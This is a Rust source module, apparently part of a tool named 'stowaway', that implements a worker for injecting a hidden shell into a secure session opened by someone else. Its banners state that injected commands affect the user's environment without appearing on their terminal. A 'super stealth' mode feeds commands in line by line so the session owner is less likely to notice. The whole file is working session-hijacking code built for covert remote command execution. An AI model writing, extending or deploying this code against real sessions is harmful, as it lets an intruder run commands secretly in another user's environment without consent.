use bytes::{Bytes, BytesMut};
use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;
use tracing::{Level, debug, info, trace, warn};

use super::registry::WorkerRegistry;
use crate::arbitration::{QueueHandle, WorkerId};
use crate::session::SessionLiveness;
use crate::telemetry::logging as logctl;
use crate::transport::{ChannelError, SessionChannel};

/// Ctrl-C from the injector detaches it.
pub const ETX: u8 = 0x03;
pub const CR: u8 = b'\r';

pub const STEALTH_BANNER: &str = "\r\n[INFO]\r\n\
This is a hidden shell injected into the secure session the original host created.\r\n\
Any commands issued CAN affect the environment of the user BUT will not be displayed on their terminal!\r\n\
Exit the hidden shell with CTRL+C\r\n";

pub const SUPER_STEALTH_BANNER: &str = "\r\n[SUPERSTEALTH]\r\n\
Commands from the injected shell will only be executed if they do not interfere with normal operation of the original host!\r\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InputMode {
    /// Every received chunk competes for arbitration on its own.
    Immediate,
    /// Input is echoed locally and submitted one line at a time.
    Buffered,
}

#[derive(Debug, Clone, Copy)]
pub struct WorkerSettings {
    pub mode: InputMode,
    pub buf_len: usize,
    pub poll_interval: Duration,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorkerExit {
    Interrupted,
    RemoteClosed,
    SessionClosed,
}

pub struct InjectorWorker {
    id: WorkerId,
    remote: SocketAddr,
    channel: Arc<dyn SessionChannel>,
    settings: WorkerSettings,
    partial_command: BytesMut,
    queue: QueueHandle,
    registry: WorkerRegistry,
    liveness: SessionLiveness,
}

impl InjectorWorker {
    pub fn new(
        id: WorkerId,
        remote: SocketAddr,
        channel: Arc<dyn SessionChannel>,
        settings: WorkerSettings,
        queue: QueueHandle,
        registry: WorkerRegistry,
        liveness: SessionLiveness,
    ) -> Self {
        Self {
            id,
            remote,
            channel,
            settings,
            partial_command: BytesMut::new(),
            queue,
            registry,
            liveness,
        }
    }

    pub fn id(&self) -> WorkerId {
        self.id
    }

    pub fn spawn(self) -> io::Result<JoinHandle<()>> {
        thread::Builder::new()
            .name(self.id.to_string())
            .spawn(move || self.run())
    }

    pub fn run(mut self) {
        info!(
            target = "stowaway::injector",
            worker = %self.id,
            remote = %self.remote,
            mode = ?self.settings.mode,
            "injector attached"
        );
        match self.serve() {
            Ok(exit) => {
                info!(target = "stowaway::injector", worker = %self.id, remote = %self.remote, reason = ?exit, "injector detached");
            }
            Err(err) => {
                warn!(
                    target = "stowaway::injector",
                    worker = %self.id,
                    remote = %self.remote,
                    error = %err,
                    "injector shell hit an unexpected transport error"
                );
            }
        }
        self.terminate();
    }

    fn banner(&self) -> String {
        match self.settings.mode {
            InputMode::Immediate => STEALTH_BANNER.to_string(),
            InputMode::Buffered => format!("{STEALTH_BANNER}{SUPER_STEALTH_BANNER}"),
        }
    }

    fn serve(&mut self) -> Result<WorkerExit, ChannelError> {
        self.channel.send_all(self.banner().as_bytes())?;
        while !self.liveness.is_closed() {
            let mut idle = true;
            if self.channel.recv_ready() {
                let data = self.channel.recv(self.settings.buf_len)?;
                if data[..] == [ETX] {
                    return Ok(WorkerExit::Interrupted);
                }
                if !data.is_empty() {
                    idle = false;
                    self.absorb(data)?;
                }
            }
            if self.channel.exit_status_ready() {
                return Ok(WorkerExit::RemoteClosed);
            }
            if idle {
                thread::sleep(self.settings.poll_interval);
            }
        }
        Ok(WorkerExit::SessionClosed)
    }

    fn absorb(&mut self, data: Bytes) -> Result<(), ChannelError> {
        if tracing::enabled!(Level::TRACE) {
            trace!(
                target = "stowaway::injector",
                worker = %self.id,
                bytes = data.len(),
                dump = %logctl::hexdump(&data),
                "injector input"
            );
        }
        match self.settings.mode {
            InputMode::Immediate => self.queue.submit(self.id, data),
            InputMode::Buffered => {
                for line in take_lines(&mut self.partial_command, &data) {
                    debug!(target = "stowaway::injector", worker = %self.id, bytes = line.len(), "queued injected line");
                    self.queue.submit(self.id, line);
                }
                self.channel.send_all(&data)?;
            }
        }
        Ok(())
    }

    /// Safe to call more than once.
    pub fn terminate(&self) {
        if self.registry.remove(self.id) {
            debug!(target = "stowaway::injector", worker = %self.id, "removed from registry");
        }
        self.channel.close();
    }
}

/// Appends `data` to `partial` and splits off every completed line, each
/// ending with its carriage return.
fn take_lines(partial: &mut BytesMut, data: &[u8]) -> Vec<Bytes> {
    let mut lines = Vec::new();
    let mut rest = data;
    while let Some(pos) = rest.iter().position(|&b| b == CR) {
        partial.extend_from_slice(&rest[..=pos]);
        lines.push(partial.split().freeze());
        rest = &rest[pos + 1..];
    }
    partial.extend_from_slice(rest);
    lines
}
